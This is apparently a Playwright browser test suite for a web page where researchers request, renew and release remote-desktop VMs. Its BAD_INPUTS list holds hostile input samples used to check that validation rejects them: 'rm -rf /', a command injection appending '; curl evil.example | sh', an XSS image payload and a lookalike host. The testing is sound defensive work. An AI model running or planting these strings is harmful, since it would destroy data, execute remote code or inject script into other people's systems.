"""The researcher page in a real browser, against a running server and real PostgreSQL:
request a VM and see its hostname and PIN, be told what is wrong with bad input, come back
to the VM, renew and release it, and be refused from another browser."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.fixtures.server import RunningServer
from tests.integration.test_allocation import crd
from tests.integration.test_api import start_vm
from tests.support.waiting import wait_until

pytestmark = pytest.mark.browser

EMAIL = "ada@example.org"


def vms(api: RunningServer) -> list[dict[str, object]]:
    reply = httpx.get(f"{api.url}/api/vms", auth=api.admin_auth(), timeout=10)
    reply.raise_for_status()
    rows: list[dict[str, object]] = reply.json()["vms"]
    return rows


def register_free(api: RunningServer, *names: str) -> None:
    """VMs that poll /vm_startup once (in background threads), once free in the table."""
    for name in names:
        threading.Thread(target=start_vm, args=(api, name), daemon=True).start()
    wait_until(
        lambda: {str(v["hostname"]) for v in vms(api) if v["status"] == "available"} >= set(names),
        message=f"{names} registered",
    )


def holders(api: RunningServer) -> dict[str, object]:
    return {str(v["hostname"]): v["user_email"] for v in vms(api) if v["user_email"]}


def fill(page: Page, email: str, command: str) -> None:
    page.get_by_label("Email").fill(email)
    page.get_by_label("Chrome Remote Desktop command").fill(command)


def request_vm(page: Page, api: RunningServer, email: str = EMAIL, code: str = "4/first") -> str:
    """Ask for a VM on the page; returns the PIN the page shows."""
    page.goto(f"{api.url}/")
    fill(page, email, crd(code))
    page.get_by_role("button", name="Request a VM").click()
    pin = page.get_by_test_id("pin")
    expect(pin).to_have_text(re.compile(r"^\d{6}$"))
    return pin.inner_text()


@pytest.fixture
def second_context(browser: Browser) -> Iterator[BrowserContext]:
    """Another browser: its own cookies and localStorage."""
    context = browser.new_context()
    yield context
    context.close()


def test_a_researcher_gets_a_vm_and_sees_hostname_and_pin(
    page: Page, api: RunningServer, screenshots_dir: Path
) -> None:
    register_free(api, "vm-a")
    page.goto(f"{api.url}/")
    expect(page.get_by_role("status")).to_have_text("1 VM free right now")
    expect(page.get_by_placeholder(re.compile(r"start-host --code="))).to_be_visible()
    expect(
        page.get_by_role("link", name="https://remotedesktop.google.com/headless")
    ).to_be_visible()
    page.screenshot(path=screenshots_dir / "researcher.png", full_page=True)
    pin = request_vm(page, api)
    expect(page.get_by_test_id("hostname")).to_have_text("vm-a")
    expect(page.get_by_text("Your VM is vm-a.")).to_be_visible()
    expect(page.get_by_role("status")).to_have_text("0 VMs free right now")
    page.screenshot(path=screenshots_dir / "researcher-assigned.png", full_page=True)
    task = start_vm(api, "vm-a").json()
    assert task["pin"] == pin and task["code"] == "4/first"
    assert holders(api) == {"vm-a": EMAIL}


BAD_INPUTS = [
    ("not-an-email", crd(), "email must contain exactly one @"),
    (EMAIL, "rm -rf /", "the program must be /opt/google/chrome-remote-desktop/start-host"),
    (EMAIL, crd() + "; curl evil.example | sh", "shell operator ';' is not allowed"),
    (EMAIL, crd().replace("4/0AbCdEf_123-xyz", "<img src=x onerror=alert(1)>"), "not allowed"),
    (EMAIL, crd().replace("https://remotedesktop.google.com", "https://evil.example"), "must be"),
]


@pytest.mark.parametrize(("email", "command", "message"), BAD_INPUTS)
def test_bad_input_is_explained_and_nothing_is_stored(
    page: Page, api: RunningServer, email: str, command: str, message: str, screenshots_dir: Path
) -> None:
    register_free(api, "vm-a")
    page.goto(f"{api.url}/")
    fill(page, email, command)
    expect(page.get_by_role("alert").filter(has_text=message)).to_be_visible()
    expect(page.get_by_role("button", name="Request a VM")).to_be_disabled()
    assert page.locator("img").count() == 0
    if "shell operator" in message:
        page.screenshot(path=screenshots_dir / "researcher-invalid.png", full_page=True)
    assert holders(api) == {}


def test_the_form_waits_for_both_fields_and_says_when_no_vm_is_free(
    page: Page, api: RunningServer, screenshots_dir: Path
) -> None:
    page.goto(f"{api.url}/")
    button = page.get_by_role("button", name="Request a VM")
    expect(button).to_be_disabled()
    page.get_by_label("Email").fill(EMAIL)
    expect(button).to_be_disabled()
    page.get_by_label("Chrome Remote Desktop command").fill(crd())
    expect(button).to_be_enabled()
    button.click()
    expect(page.get_by_text("No VM is free right now")).to_be_visible()
    page.screenshot(path=screenshots_dir / "researcher-none-free.png", full_page=True)
    assert holders(api) == {}


def test_a_returning_browser_sees_its_vm_renews_and_releases_it(
    page: Page, api: RunningServer, screenshots_dir: Path
) -> None:
    register_free(api, "vm-a", "vm-b")
    pin = request_vm(page, api)
    hostname = page.get_by_test_id("hostname").inner_text()
    assert start_vm(api, hostname).json()["generation"] == 1
    page.reload()
    expect(page.get_by_test_id("hostname")).to_have_text(hostname)
    expect(page.get_by_test_id("pin")).to_have_text(pin)
    expect(page.get_by_label("Email")).to_be_disabled()
    page.screenshot(path=screenshots_dir / "researcher-returning.png", full_page=True)

    box: dict[str, httpx.Response] = {}
    waiting = threading.Thread(target=lambda: box.update(r=start_vm(api, hostname, 1)))
    waiting.start()
    page.get_by_label("Chrome Remote Desktop command").fill(crd("4/fresh"))
    page.get_by_role("button", name="Send the new command").click()
    expect(page.get_by_text(f"Sent the new command to {hostname}.")).to_be_visible()
    waiting.join(timeout=15)
    assert box["r"].json()["code"] == "4/fresh" and box["r"].json()["pin"] == pin

    page.get_by_role("button", name="Release this VM").click()  # asks first
    expect(page.get_by_text(f"Release {hostname}?")).to_be_visible()
    page.get_by_role("button", name="Keep it").click()
    expect(page.get_by_test_id("hostname")).to_have_text(hostname)
    assert holders(api) == {hostname: EMAIL}
    page.get_by_role("button", name="Release this VM").click()
    page.get_by_role("button", name="Yes, release it").click()
    expect(page.get_by_text(f"{hostname} was released")).to_be_visible()
    expect(page.get_by_test_id("hostname")).to_have_count(0)
    assert holders(api) == {}
    page.reload()
    expect(page.get_by_role("button", name="Request a VM")).to_be_visible()
    expect(page.get_by_test_id("hostname")).to_have_count(0)


def test_another_browser_with_the_same_email_is_refused(
    page: Page, second_context: BrowserContext, api: RunningServer, screenshots_dir: Path
) -> None:
    register_free(api, "vm-a", "vm-b")
    request_vm(page, api)
    other = second_context.new_page()
    other.goto(f"{api.url}/")
    fill(other, EMAIL.upper(), crd("4/hijack"))
    other.get_by_role("button", name="Request a VM").click()
    expect(other.get_by_role("alert").filter(has_text="ask an admin")).to_be_visible()
    expect(other.get_by_test_id("hostname")).to_have_count(0)
    other.screenshot(path=screenshots_dir / "researcher-refused.png", full_page=True)
    assert list(holders(api).values()) == [EMAIL]


def test_a_released_seat_is_forgotten_by_the_browser(page: Page, api: RunningServer) -> None:
    register_free(api, "vm-a")
    request_vm(page, api)
    released = httpx.post(f"{api.url}/api/vms/vm-a/release", auth=api.admin_auth(), timeout=10)
    assert released.status_code == 200
    page.reload()  # the page says who took it back, and why
    expect(page.get_by_text("Your VM vm-a was taken back: released by an admin.")).to_be_visible()
    expect(page.get_by_label("Email")).to_have_value(EMAIL)
    expect(page.get_by_label("Email")).to_be_enabled()


def test_a_browser_that_asked_by_form_post_is_recognised_by_its_seat_cookie(
    page: Page, api: RunningServer
) -> None:
    register_free(api, "vm-a")
    # What the original's form (or a curl with a cookie jar) does: a plain form POST.
    reply = page.context.request.post(
        f"{api.url}/request_vm", form={"email": EMAIL, "crd_command": crd("4/0ByForm")}
    )
    assert reply.status == 200 and "vm-a" in reply.text()
    page.goto(f"{api.url}/")
    expect(page.get_by_test_id("hostname")).to_have_text("vm-a")
    expect(page.get_by_label("Email")).to_be_disabled()
    expect(page.get_by_role("button", name="Release this VM")).to_be_visible()
